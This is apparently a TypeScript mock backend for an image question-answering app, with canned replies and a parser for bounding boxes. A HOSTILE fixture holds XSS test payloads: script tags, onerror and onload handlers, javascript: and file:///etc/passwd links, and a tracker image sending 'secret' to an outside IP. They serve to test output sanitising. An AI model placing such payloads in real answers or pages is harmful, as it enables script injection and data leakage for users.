// What the mock says. `/long`, `/hostile`, `/fail` and `/empty` in a question bring the odd ones.
import type { AnswerBox, AnswerOptions, Picture } from '../bindings';

const SCENE = `The picture shows a calm scene in warm light. The main subject stands slightly to the left of the centre, and the colours around it are soft.

What can be seen:

1. a clear foreground with one **main object**
2. a quieter background in cooler tones
3. no text that could be read for certain

Nothing in the picture says when it was taken.`;

const SCENE_ZH = `画面光线柔和，主体位于中间偏左，周围的颜色比较淡。

可以看到：

1. 前景清楚，有一个**主要物体**
2. 背景偏冷色，比较安静
3. 没有能确切辨认的文字`;

/** Everything that a hostile answer would try. */
export const HOSTILE = `<script>window.hacked = true</script>

<img src=x onerror="window.hacked = true">

![tracker](http://203.0.113.7/pixel?q=secret)
![tracker](https://example.com/pixel.png)

[a file](file:///etc/passwd) and [a script](javascript:alert(1)), [plain](http://example.com), [safe](https://example.com/page)

<a href="javascript:alert(1)">click</a> <iframe src="https://example.com"></iframe> <svg onload="window.hacked = true">

<style>body { display: none }</style>

\`\`\`html
<script>window.hacked = true</script>
\`\`\``;

export function reply(question: string, options: AnswerOptions): string {
  if (question.startsWith('/hostile')) return HOSTILE;
  if (question.startsWith('/quotes')) return `${'>'.repeat(100_000)} deep`;
  if (question.startsWith('/line')) return 'word '.repeat(200_000);
  if (question.startsWith('/empty')) return '';
  if (question.startsWith('/long')) return Array(8).fill(SCENE).join('\n\n');
  const chinese = /[\u4e00-\u9fff]/.test(question);
  switch (options.style) {
    case 'short':
      return chinese ? '红色' : 'Red';
    case 'caption':
      return chinese ? '夕阳下，一艘帆船驶过港湾。' : 'A sailing boat crosses a harbour at sunset.';
    case 'choice':
      return 'B';
    case 'box':
      return '[0.28, 0.31, 0.66, 0.72]';
    case 'region':
      return chinese ? '一艘红色的船' : 'a red boat with cream sails';
    case 'json':
      return `\`\`\`json\n{\n${options.fields.map((f) => `  ${JSON.stringify(f)}: "…"`).join(',\n')}\n}\n\`\`\``;
    case 'check':
      return chinese ? '说法有误：图中只有**一艘**船。' : 'Not quite: there is only **one** boat.';
    default:
      return chinese ? SCENE_ZH : SCENE;
  }
}

/** The boxes of an answer, as the backend would find them. */
export function boxesOf(text: string, picture: Picture | undefined): AnswerBox[] {
  if (!picture) return [];
  const side = Math.max(picture.width, picture.height);
  const dx = (side - picture.width) / 2;
  const dy = (side - picture.height) / 2;
  const boxes: AnswerBox[] = [];
  for (const m of text.matchAll(/\[([01]\.\d+), ([01]\.\d+), ([01]\.\d+), ([01]\.\d+)\]/g)) {
    const [x1 = 0, y1 = 0, x2 = 0, y2 = 0] = m.slice(1).map(Number);
    const clampX = (v: number) => Math.min(picture.width, Math.max(0, v * side - dx));
    const clampY = (v: number) => Math.min(picture.height, Math.max(0, v * side - dy));
    boxes.push({
      picture: picture.id,
      region: { x1: clampX(x1), y1: clampY(y1), x2: clampX(x2), y2: clampY(y2) },
      range: [m.index, m.index + m[0].length],
    });
  }
  return boxes;
}
